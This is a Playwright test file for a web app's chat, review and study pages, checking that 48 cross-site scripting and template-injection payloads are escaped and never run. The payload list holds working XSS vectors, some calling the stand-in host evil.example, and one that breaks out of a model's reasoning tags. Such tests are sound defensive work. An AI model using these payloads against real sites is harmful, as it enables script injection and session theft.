"""What users, raters, models and data write is text, whatever it says: 48 payloads in every place, 0 run."""

from html import escape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from r1tailor.serving.feedback.log import FeedbackLog, Texts
from r1tailor.serving.study.folder import Study, create
from r1tailor.serving.study.plan import Assumed, planned
from r1tailor.serving.study.report import figures
from r1tailor.serving.study.report import page as report_page
from r1tailor.serving.study.subjects import Answered, Item
from tests.support.browser import Site, Watched, log_in

if TYPE_CHECKING:
    from playwright.sync_api import Page

RUN = "window.ran=1;alert(1)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f'"><img src=x onerror="{RUN}">',
    f"<img src=//evil.example/x.png onload={RUN}>",
    f"<svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>",
    f"<audio src=x onerror='{RUN}'></audio>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<select autofocus onfocus='{RUN}'></select>",
    f"<textarea autofocus onfocus='{RUN}'></textarea>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<a href='javascript:{RUN}' autofocus onfocus='{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<style>@import '//evil.example/x.css';</style><script>{RUN}</script>",
    f"<div style='background:url(javascript:{RUN})'>x</div>",
    f"\" autofocus onfocus='{RUN}' x=\"",
    f"' onmouseover='{RUN}' x='",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0b>{RUN}</script>\x00<img\x00 src=x onerror={RUN}>",
    f"＜script＞{RUN}＜/script＞ʺ><svg/onload={RUN}>",
    f"</think><script>{RUN}</script><think>",
)
GROUPS = tuple("\n".join(PAYLOADS[first::12]) for first in range(12))  # where a page takes long: four in one text
FOREIGN = (
    "() => document.querySelectorAll("
    "'img, svg, iframe, object, embed, math, base, video, marquee, meta[http-equiv]').length"
)


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def _harmless(page: "Page", watched: Watched) -> None:
    assert page.evaluate("() => window.ran") is None, page.url
    assert page.evaluate(FOREIGN) == 0, page.url
    assert page.evaluate("() => document.querySelectorAll('script:not([src=\"/static/pages.js\"])').length") == 0
    assert watched.dialogs == watched.elsewhere == watched.console == [], page.url


def test_in_question_answer_and_reasoning_of_the_chat_page(page: "Page", site: Site) -> None:
    site.shelf.engines[site.shelf.current].write = lambda ask: f"<think>{_last(ask)}</think>{_last(ask)}"
    log_in(page, site, "user")
    watched = Watched().over(page, site.url)
    for payload in GROUPS:
        page.fill("#question", payload)
        page.click("button.main")
        _harmless(page, watched)
        page.locator("details:has(#corrected) summary").click()
        page.fill("#corrected", f"{payload} {payload}")
        page.fill("#reason", payload)
        page.locator("form[action^='/feedback'] button").click()
        _harmless(page, watched)
    log = FeedbackLog(site.context.folder / "feedback" / site.context.composition.domain.name)
    assert len(log.records()) == len(GROUPS)


def _last(ask: object) -> str:
    return str(ask.turns[-1].content).rpartition("\n\n")[2]  # type: ignore[attr-defined]


def test_in_every_text_and_label_of_the_review(page: "Page", site: Site) -> None:
    log = FeedbackLog(site.context.folder / "feedback" / site.context.composition.domain.name)
    ids = []
    for payload in GROUPS:
        id_ = log.add(Texts(payload, payload, payload, f"{payload}!", payload), payload, payload, "down")
        log.decide(id_, f"{payload} reviewer", "edit", 0, f"{payload}?", payload)
        ids.append(id_)
    log_in(page, site, "reviewer")
    watched = Watched().over(page, site.url)
    page.goto(f"{site.url}/review")
    _harmless(page, watched)
    for id_, payload in zip(ids, GROUPS, strict=True):
        page.goto(f"{site.url}/review/{id_}")
        _harmless(page, watched)
        page.goto(f"{site.url}/review?contains={_quoted(payload)}&status={_quoted(payload)}&lang={_quoted(payload)}")
        _harmless(page, watched)


@pytest.fixture(scope="module")
def study(site: Site, tmp_path_factory: pytest.TempPathFactory) -> tuple[Study, str]:
    """A study whose items, title and subjects are payloads."""
    items = tuple(
        Item(payload, payload, payload, (f"<think>{payload}</think>{payload}", f"{payload}.")) for payload in GROUPS
    )
    found = Answered("toy", PAYLOADS[0], "en", items, (), (PAYLOADS[1], PAYLOADS[9]), None)
    subjects = (PAYLOADS[10], PAYLOADS[12])
    plan, drawn = planned("toy-study-1", found, subjects, (len(items), 1, 0.0), 0.95, Assumed(), 1)
    made, (token,) = create(site.context.folder, plan, drawn)
    return made, f"{site.url}/study/{token}"


def test_in_items_answers_and_comments_of_a_study_and_its_report(
    page: "Page", site: Site, study: tuple[Study, str], tmp_path: Path
) -> None:
    made, link = study
    watched = Watched().over(page, site.url)
    page.goto(link)
    for payload in GROUPS:
        _harmless(page, watched)
        page.check("input[name=choice][value=a]")
        page.fill("#comment", payload)
        page.click("button.main")
    assert made.ended
    html = report_page(made, figures(made))
    assert "<script" not in html
    for payload in PAYLOADS:
        assert escape(payload).replace("&#x27;", "&#39;").replace("&quot;", "&#34;").split("\x00")[0] in html
    (tmp_path / "report.html").write_text(html, "utf-8")
    page.goto((tmp_path / "report.html").as_uri())
    assert page.evaluate("() => window.ran") is None
    assert page.evaluate(FOREIGN) == 0
    assert not watched.dialogs


def test_in_the_address_of_every_page(page: "Page", site: Site) -> None:
    watched = Watched().over(page, site.url)
    paths = ("/study/{}", "/{}", "/review/{}", "/?lang={}")
    for number, payload in enumerate(PAYLOADS):
        for path in ("/login?next={}", paths[number % len(paths)]):
            page.goto(site.url + path.format(_quoted(payload)))
            assert page.evaluate("() => window.ran") is None
            assert watched.dialogs == watched.elsewhere == []


def test_a_page_that_did_run_it_would_be_found(page: "Page", tmp_path: Path) -> None:
    watched = Watched().over(page, "http://127.0.0.1")
    page.set_content(PAYLOADS[9])
    page.wait_for_function("() => window.ran === 1")
    assert watched.dialogs == ["1"]
    assert page.evaluate(FOREIGN) == 1


def _quoted(text: str) -> str:
    return quote(text, safe="")
